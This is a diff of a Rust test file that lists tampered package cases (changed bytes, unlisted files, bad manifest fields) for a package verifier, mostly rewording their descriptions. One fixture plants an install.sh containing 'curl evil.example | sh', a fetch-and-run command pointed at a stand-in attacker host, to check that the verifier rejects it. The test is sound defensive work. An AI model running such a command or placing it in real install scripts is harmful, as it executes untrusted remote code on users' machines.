@@ -4,7 +4,7 @@ use super::base::{Base, Entry, Spoilt, spoilt};
 use crate::prelude::*;
 
 pub const ALL: &[Spoilt] = &[
-    spoilt("one byte of a file is another one", "package.digest-wrong", "LICENSE", |b| {
+    spoilt("one changed byte in a file", "package.digest-wrong", "LICENSE", |b| {
         let mut file = b.files["LICENSE"].clone();
         file[0] ^= 1;
         b.swapped("LICENSE", file)
@@ -12,48 +12,40 @@ pub const ALL: &[Spoilt] = &[
     spoilt("a longer file", "package.size-wrong", "LICENSE", |b| {
         b.swapped("LICENSE", "Pay me, and pay me again.")
     }),
-    spoilt(
-        "another component under the signature of the good one",
-        "package.digest-wrong",
-        "component.wasm",
-        |b| {
-            let mut component = b.files["component.wasm"].clone();
-            let last = component.len() - 1;
-            component[last] ^= 1;
-            b.swapped("component.wasm", component)
-        },
-    ),
+    spoilt("another component under the original signature", "package.digest-wrong", "component.wasm", |b| {
+        let mut component = b.files["component.wasm"].clone();
+        let last = component.len() - 1;
+        component[last] ^= 1;
+        b.swapped("component.wasm", component)
+    }),
     spoilt("a file that is not listed", "package.file-unlisted", "LICENSE-EVIL", |b| b.and("LICENSE-EVIL")),
-    spoilt("a listed file that is not there", "package.file-absent", "LICENSE", |b| {
+    spoilt("a listed file that is missing", "package.file-absent", "LICENSE", |b| {
         b.archived(|entries| entries.retain(|entry| entry.name != b"LICENSE"))
     }),
-    spoilt("a list with the digest of nothing", "package.digest-wrong", "LICENSE", |b| {
+    spoilt("a list with an empty digest", "package.digest-wrong", "LICENSE", |b| {
         listed(b, |list| list["files"]["LICENSE"]["sha256"] = json!(""))
     }),
-    spoilt("a list that lists itself", "package.size-wrong", "manifest.json", |b| {
+    spoilt("a list with an entry for itself", "package.size-wrong", "manifest.json", |b| {
         listed(b, |list| list["files"]["manifest.json"] = json!({ "bytes": 1, "sha256": "00" }))
     }),
-    spoilt("a list with more to say than lists have", "package.field-unknown", "manifest.json: level", |b| {
+    spoilt("a list with an unknown field", "package.field-unknown", "manifest.json: level", |b| {
         listed(b, |list| list["level"] = json!("official"))
     }),
-    spoilt("a list of another format", "package.format-unknown", "manifest.json", |b| {
+    spoilt("a list with an unknown format", "package.format-unknown", "manifest.json", |b| {
         listed(b, |list| list["format"] = json!(2))
     }),
-    spoilt("no list at all", "package.file-missing", "manifest.json", |b| {
+    spoilt("no list", "package.file-missing", "manifest.json", |b| {
         b.archived(|entries| entries.retain(|entry| entry.name != b"manifest.json"))
     }),
     spoilt("a program beside the component", "package.file-unknown", "install.sh", |b| {
         b.with_file("install.sh", "curl evil.example | sh")
     }),
-    spoilt("compiled code in the place of a component", "package.file-unknown", "component.cwasm", |b| {
+    spoilt("compiled code instead of a component", "package.file-unknown", "component.cwasm", |b| {
         b.with_file("component.cwasm", "\u{7f}ELF")
     }),
-    spoilt(
-        "a component and a template, of which reviewers see one",
-        "package.program-twice",
-        "template.toml",
-        |b| b.with_file("template.toml", "name = {}"),
-    ),
+    spoilt("a component and a template in one package", "package.program-twice", "template.toml", |b| {
+        b.with_file("template.toml", "name = {}")
+    }),
 ];
 
 /// With a changed list, which the signature does not cover.
